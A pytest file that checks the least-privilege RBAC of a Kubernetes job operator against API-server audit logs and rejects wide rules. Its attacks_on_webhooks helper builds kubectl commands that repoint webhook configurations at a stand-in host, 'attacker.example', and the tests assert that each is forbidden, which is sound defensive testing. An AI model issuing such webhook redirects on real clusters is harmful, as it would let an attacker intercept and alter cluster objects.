"""Each process with its own account and nothing else: enough for jobs of every kind, and hardly more."""

import asyncio
import json
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from bireme.api.kinds import POD_GROUP, QUEUE
from bireme.installation import rbac
from bireme.installation.expressions import World as Known
from bireme.installation.expressions import resolve
from bireme.installation.names import CONTROLLER, SCHEDULER, WEBHOOKS, account_user
from bireme.kube.client import Client
from bireme.kube.resources import (
    CONFIG_MAPS,
    LEASES,
    PODS,
    ROLE_BINDINGS,
    ROLES,
    SECRETS,
    SERVICE_ACCOUNTS,
    SERVICES,
    Resource,
    resource_of,
)
from support.cluster_world import World, connect, new_world, until
from support.control_plane import ControlPlane
from support.installation import Installation, apply, audited, node
from support.jobs import colossalai, generic, kubeflow, mpi

pytestmark = pytest.mark.xdist_group("installation")

HOME = "bireme-system"
USER = f"system:serviceaccount:{HOME}:{CONTROLLER}"
RULES = (
    *rbac.CONTROLLER_RULES,
    *rbac.KUBEFLOW_RULES,
    *rbac.LAUNCHER_RULES,
    *rbac.LEASE_RULES,
)
WEBHOOK_USER = f"system:serviceaccount:{HOME}:{WEBHOOKS}"
WEBHOOK_RULES = (*rbac.WEBHOOK_RULES, *rbac.WEBHOOK_GROUP_RULES, *rbac.WEBHOOK_HOME_RULES)
HELD_TO_GRANT = {("get", "pods/exec"), ("create", "pods/exec")}
"""Never used by the controller: it must hold what it grants to launchers."""
ASKED_BY_A_PLUGIN = {
    ("update", f"{plural}/finalizers{group}")
    for group, plurals in (
        (".batch.tensorstack.dev", ("genericjobs", "mpijobs", "colossalaijobs")),
        (".kubeflow.org", ("mpijobs",)),
    )
    for plural in plurals
}
"""OwnerReferencesPermissionEnforcement, which is on here, asks for these: no request is made of them."""


def play(plane: ControlPlane, namespace: str, scene: Callable[[World], Awaitable[None]]) -> None:
    async def main() -> None:
        async with new_world(plane, namespace) as world:
            await scene(world)

    asyncio.run(main())


def test_jobs_of_every_kind_run_with_the_controllers_own_permissions(plane: ControlPlane) -> None:
    """Each rule is used, and none is missing, by the API server's audit log."""
    installation = Installation(plane, HOME, {"kubeflow": {"enabled": True}})
    installation.apply()
    try:
        with installation.running():
            play(plane, "rights-generic", generic_life)
            play(plane, "rights-finished", finished_member)
            play(plane, "rights-crews", crews_begin)
            play(plane, "rights-taken", names_that_are_taken)
            play(plane, "rights-queues", lambda world: queue_of_a_user(plane, world))
        play_restart(plane, installation)
    finally:
        installation.remove()
    for user, rules in ((USER, RULES), (WEBHOOK_USER, WEBHOOK_RULES)):
        entries = audited(plane, user)
        refused = [told(entry) for entry in entries if is_refused(entry)]
        assert not refused, installation.log() + installation.log(WEBHOOKS)
        used = {use(entry) for entry in entries}
        unused = [each for rule in rules for each in granted(rule) if each not in used]
        unexpected = [each for each in unused if each[:2] not in HELD_TO_GRANT | ASKED_BY_A_PLUGIN]
        assert not unexpected, f"rules of {user} that nothing has used: {sorted(unexpected)}"


@pytest.mark.parametrize("watched", ["", "default"], ids=["all namespaces", "one"])
def test_no_account_of_an_installation_may_change_a_webhook_configuration(
    plane: ControlPlane, watched: str
) -> None:
    """Whoever may, reads and changes every object of the cluster: a stolen token must not be enough."""
    on = {"kubeflow": {"enabled": True}, "scheduler": {"enabled": True}}
    installation = Installation(plane, f"bireme-bound{watched}", {**on, "watchNamespace": watched})
    accounts = [each["metadata"]["name"] for each in installation.objects if each["kind"] == "ServiceAccount"]
    assert sorted(accounts) == [CONTROLLER, SCHEDULER, WEBHOOKS]
    configurations = [each for each in installation.objects if each["kind"].endswith("Configuration")]
    assert len(configurations) == 2
    try:
        installation.apply()
        for account in accounts:
            config = installation.account_kubeconfig(account)
            for each in configurations:
                for command, body in attacks_on_webhooks(each):
                    done = plane.kubectl(*command, kubeconfig=config, check=False, input=body)
                    assert "Forbidden" in done.stderr, (account, command, done.stdout, done.stderr)
    finally:
        installation.remove()


def attacks_on_webhooks(configuration: dict[str, Any]) -> list[tuple[tuple[str, ...], str]]:
    kind, name = configuration["kind"], configuration["metadata"]["name"]
    url = [{"op": "add", "path": "/webhooks/0/clientConfig", "value": {"url": "https://attacker.example"}}]
    other = {**configuration, "metadata": {"name": "mine"}}
    return [
        (("patch", kind, name, "--type=json", "-p", json.dumps(url)), ""),
        (("apply", "--server-side", "--force-conflicts", "-f", "-"), json.dumps(configuration)),
        (("delete", kind, name), ""),
        (("create", "-f", "-"), json.dumps(other)),
    ]


def test_permissions_in_one_namespace_are_enough_for_its_jobs(plane: ControlPlane) -> None:
    """With webhooks, which are asked about that namespace alone."""
    installation = Installation(plane, "bireme-one", {"watchNamespace": "rights-one"})
    user = f"system:serviceaccount:bireme-one:{CONTROLLER}"

    async def scene(world: World) -> None:
        await asyncio.to_thread(installation.apply)
        with installation.controller(), installation.webhooks():
            await asyncio.to_thread(installation.wait_ready)
            await asyncio.to_thread(installation.wait_webhooks)
            job = generic(replicas=1)
            await world.create(job)
            await world.wait_pods("job-worker-0")
            await world.run()
            await world.finish("job-worker-0")
            await world.wait_phase(job, "Succeeded")

    try:
        play(plane, "rights-one", scene)
    finally:
        installation.remove()
    entries = audited(plane, user) + audited(plane, f"system:serviceaccount:bireme-one:{WEBHOOKS}")
    assert entries
    assert not [told(entry) for entry in entries if is_refused(entry)], installation.log()
    elsewhere = [e for e in entries if (e.get("objectRef") or {}).get("namespace") not in _ONE_NAMESPACE]
    assert {use(entry)[1] for entry in elsewhere} <= _OF_THE_CLUSTER


_ONE_NAMESPACE = ("rights-one", "bireme-one")
_OF_THE_CLUSTER: set[str] = set()


async def finished_member(world: World) -> None:
    """A replica of a queued job that has finished, and its pod is deleted."""
    job = generic(replicas=2, scheduler={"t9kScheduler": {"queue": "all"}})
    await world.create(job)
    await world.wait_pods("job-worker-0", "job-worker-1")
    await world.run()
    await world.finish("job-worker-0")
    await world.wait_job(job, lambda found: found["status"]["aggregate"]["succeeded"] == 1, "one success")
    await world.client.delete(PODS, world.namespace, "job-worker-0", grace_seconds=0)

    async def shrunk() -> bool:
        group = await world.client.get(resource_of(POD_GROUP), world.namespace, "job")
        return bool(group["spec"]["minMember"] == 1)

    await until(shrunk)


async def generic_life(world: World) -> None:
    """Services, a queue, a pause in which it shrinks, and a sidecar that outlives its main container."""
    queue = {"apiVersion": QUEUE.api_version, "kind": "Queue", "metadata": {"name": "all"}}
    await world.client.create(resource_of(QUEUE), None, {**queue, "spec": {"namespaceSelector": {}}})
    job = generic(
        service={"ports": [{"port": 80}]}, scheduler={"t9kScheduler": {"queue": "all"}}, sidecar=True
    )
    await world.create(job)
    await world.wait_pods("job-worker-0", "job-worker-1")
    await world.run()
    await world.wait_phase(job, "Running")
    await world.patch_job(job, {"runMode": {"pause": {"enabled": True}}})
    await world.wait_job(job, _condition("Paused", "Stopped"), "Paused: Stopped")
    smaller = {**job["spec"]["replicaSpecs"][0], "replicas": 1}
    await world.patch_job(job, {"replicaSpecs": [smaller]})
    await world.patch_job(job, {"runMode": {"pause": {"enabled": False}}})
    await world.wait_pods("job-worker-0")
    await world.client.bind(world.namespace, "job-worker-0", "somewhere")
    await world.run()
    await world.wait_phase(job, "Running")
    await world.finish_main("job-worker-0", "main")
    await _wait_stopped(world, "job-worker-0")
    await world.finish("job-worker-0")
    await world.wait_phase(job, "Succeeded")
    await world.wait_gone(resource_of(POD_GROUP))
    await world.client.delete(resource_of(QUEUE), None, "all")


async def crews_begin(world: World) -> None:
    """An MPIJob that grows while it is paused, a ColossalAIJob, and a Kubeflow MPIJob that goes by itself."""
    grown, other, brief = (
        mpi("grown"),
        colossalai("other"),
        kubeflow("brief", runPolicy={"ttlSecondsAfterFinished": 0}),
    )
    for job in (grown, other, brief):
        await world.create(job)
    crew = ("grown-launcher", "grown-worker-0", "grown-worker-1")
    pods = (*crew, "other-launcher", "other-worker-0", "brief-launcher", "brief-worker-0")
    await world.wait_pods(*pods)
    await world.patch_job(grown, {"runMode": {"pause": {"enabled": True}}})
    await world.wait_job(grown, _condition("Paused", "Stopped"), "Paused: Stopped")
    await world.patch_job(grown, {"worker": {"replicas": 3}})
    await world.patch_job(grown, {"runMode": {"pause": {"enabled": False}}})
    await world.wait_pods(*pods, "grown-worker-2")
    await world.run()
    for name in ("grown-launcher", "other-launcher", "brief-launcher"):
        await world.finish(name)
    for job in (grown, other):
        await world.wait_phase(job, "Succeeded")

    async def is_gone() -> bool:
        return "brief-launcher" not in await world.pods()

    await until(is_gone)


async def names_that_are_taken(world: World) -> None:
    """Whether what stands there is ours is asked of each kind."""
    rbac_group = {"apiVersion": "rbac.authorization.k8s.io/v1"}
    role_ref = {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "any"}
    taken: list[tuple[Resource, dict[str, Any], dict[str, Any]]] = [
        (PODS, {"kind": "Pod", **_POD}, generic("pod")),
        (SERVICES, {"kind": "Service", "spec": {"ports": [{"port": 80}]}}, generic("service", **_PORTS)),
        (CONFIG_MAPS, {"kind": "ConfigMap"}, mpi("config")),
        (SECRETS, {"kind": "Secret"}, mpi("secret")),
        (
            resource_of(POD_GROUP),
            {"apiVersion": POD_GROUP.api_version, "kind": "PodGroup", "spec": {"minMember": 1}},
            generic("group", scheduler={"t9kScheduler": {"queue": "any"}}),
        ),
        (SERVICE_ACCOUNTS, {"kind": "ServiceAccount"}, kubeflow("account")),
        (ROLES, {**rbac_group, "kind": "Role"}, kubeflow("role")),
        (ROLE_BINDINGS, {**rbac_group, "kind": "RoleBinding", "roleRef": role_ref}, kubeflow("binding")),
    ]
    suffixes = ("-worker-0", "-worker-0", "-config", "-ssh", "", "-launcher", "-launcher", "-launcher")
    for (resource, body, job), suffix in zip(taken, suffixes, strict=True):
        metadata = {"name": f"{job['metadata']['name']}{suffix}"}
        await world.client.create(
            resource, world.namespace, {"apiVersion": "v1", "metadata": metadata, **body}
        )
        await world.create(job)
    for _, _, job in taken:
        await world.wait_job(job, _has_reason("NameConflict"), "NameConflict")


async def queue_of_a_user(plane: ControlPlane, world: World) -> None:
    """The webhook asks for the Queue, the namespace's labels, and the user's permission."""
    spec = {"namespaceSelector": {"matchLabels": {"no": "such"}}}
    queue = {"apiVersion": QUEUE.api_version, "kind": "Queue", "metadata": {"name": "narrow"}, "spec": spec}
    await world.client.create(resource_of(QUEUE), None, queue)
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "pod"}, **_POD}
    pod["metadata"]["labels"] = {"scheduler.tensorstack.dev/queue": "narrow"}
    container = {"name": "main", "image": "x:1", "resources": {"requests": {"cpu": "500m"}}}
    pod["spec"] = {"containers": [container], "schedulerName": "t9k-scheduler"}
    async with connect(plane, str(plane.kubeconfig_for("ann", ["system:masters"]))) as client:
        await client.create(PODS, world.namespace, pod)
        await resized(plane, client, world)
        group = {"apiVersion": POD_GROUP.api_version, "kind": "PodGroup", "metadata": {"name": "group"}}
        spec_of_group = {"minMember": 1, "queue": "narrow"}
        await client.create(resource_of(POD_GROUP), world.namespace, {**group, "spec": spec_of_group})
        member = {**pod, "metadata": {"name": "member", "labels": dict(_MEMBER)}}
        await client.create(PODS, world.namespace, member)
    await world.client.delete(resource_of(QUEUE), None, "narrow")


async def resized(plane: ControlPlane, client: Client, world: World) -> None:
    """A pod that runs grows, which the queue's shape profile is asked about."""
    profile = {"spec": {"resourceShapeProfile": "small"}}
    await client.patch(resource_of(QUEUE), None, "narrow", profile)
    shapes = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "resource-shapes"}}
    await client.create(CONFIG_MAPS, HOME, {**shapes, "data": {"small": '{"cpu": "2"}'}})
    await asyncio.to_thread(apply, plane, [node()])
    await client.bind(world.namespace, "pod", "somewhere")
    grown = {"spec": {"containers": [{"name": "main", "resources": {"requests": {"cpu": "1"}}}]}}
    await client.patch(PODS, world.namespace, "pod", grown, kind="strategic", subresource="resize")


def play_restart(plane: ControlPlane, installation: Installation) -> None:
    """A new process finds out what the last one has made."""

    async def scene(world: World) -> None:
        jobs = [mpi("job"), kubeflow("flow")]
        pods = ("job-launcher", "job-worker-0", "job-worker-1", "flow-launcher", "flow-worker-0")
        with installation.controller(), installation.webhooks():
            await asyncio.to_thread(installation.wait_webhooks)
            for job in jobs:
                await world.create(job)
            await world.wait_pods(*pods)
        with installation.controller(), installation.webhooks():

            async def is_held() -> bool:
                lease = await world.client.get(LEASES, HOME, CONTROLLER)
                return bool(lease["spec"].get("holderIdentity"))

            await until(is_held)
            await world.run()
            await world.finish("job-launcher")
            await world.finish("flow-launcher")
            await world.wait_phase(jobs[0], "Succeeded")
            await world.wait_phase(jobs[1], "Succeeded")

    play(plane, "rights-restart", scene)


_PORTS: dict[str, Any] = {"service": {"ports": [{"port": 80}]}}
_MEMBER = {"scheduler.tensorstack.dev/group-name": "group"}
_POD: dict[str, Any] = {"spec": {"containers": [{"name": "main", "image": "registry.example/x:1"}]}}


def _condition(kind: str, reason: str) -> Callable[[dict[str, Any]], bool]:
    def holds(job: dict[str, Any]) -> bool:
        conditions = (job.get("status") or {}).get("conditions", ())
        return any(c["type"] == kind and c.get("reason") == reason for c in conditions)

    return holds


def _has_reason(reason: str) -> Callable[[dict[str, Any]], bool]:
    return lambda job: any(c.get("reason") == reason for c in (job.get("status") or {}).get("conditions", ()))


async def _wait_stopped(world: World, name: str) -> None:
    async def look() -> bool:
        return bool((await world.pods())[name]["spec"].get("activeDeadlineSeconds") == 1)

    await until(look)


NAMED = {
    (resource, str(resolve(name, Known({"watchNamespace": ""}, HOME, ""))))
    for rule in (*RULES, *WEBHOOK_RULES)
    for resource in rule.resources
    for name in rule.names
}


def granted(rule: rbac.Rule) -> list[tuple[str, str, bool]]:
    """Each verb on each resource, and whether on some names alone."""
    suffix = f".{rule.group}" if rule.group else ""
    return [
        (verb, f"{resource}{suffix}", bool(rule.names)) for verb in rule.verbs for resource in rule.resources
    ]


def use(entry: dict[str, Any]) -> tuple[str, str, bool]:
    """The same of a request: an object that a rule names is not counted for rules that name none."""
    ref = entry.get("objectRef") or {}
    resource = ref.get("resource", "")
    # A name can't bind creation.
    is_named = entry["verb"] != "create" and (resource, ref.get("name")) in NAMED
    if ref.get("subresource"):
        resource += f"/{ref['subresource']}"
    return entry["verb"], f"{resource}.{ref['apiGroup']}" if ref.get("apiGroup") else resource, is_named


def is_refused(entry: dict[str, Any]) -> bool:
    """Whether for want of a permission: a namespace that is going refuses with the same code."""
    return bool(entry.get("annotations", {}).get("authorization.k8s.io/decision") == "forbid")


def told(entry: dict[str, Any]) -> str:
    return f"{entry['verb']} {entry['requestURI']}: {entry['responseStatus'].get('message')}"


def test_no_rule_is_wider_than_it_may_be() -> None:
    """No wildcard, nothing by which one could rise, no Secrets of everybody, exec in one role alone."""
    assert resolve(account_user("x"), Known({}, "x", "")) == f"system:serviceaccount:x:{CONTROLLER}"
    for rule in (*RULES, *WEBHOOK_RULES, *rbac.EDIT_RULES, *rbac.VIEW_RULES, *rbac.QUEUE_VIEW_RULES):
        words = {rule.group, *rule.resources, *rule.verbs}
        assert not words & {"*", "escalate", "bind", "impersonate", "proxy"}, rule
        if "secrets" in rule.resources:
            assert not set(rule.verbs) & {"list", "watch", "delete", "patch"}, rule
            assert "update" not in rule.verbs or rule.names, rule
        assert not any("webhookconfigurations" in each for each in rule.resources), rule
        if "pods/exec" in rule.resources:
            assert rule in rbac.LAUNCHER_RULES
    assert not [rule for rule in rbac.EDIT_RULES if any("/status" in each for each in rule.resources)]
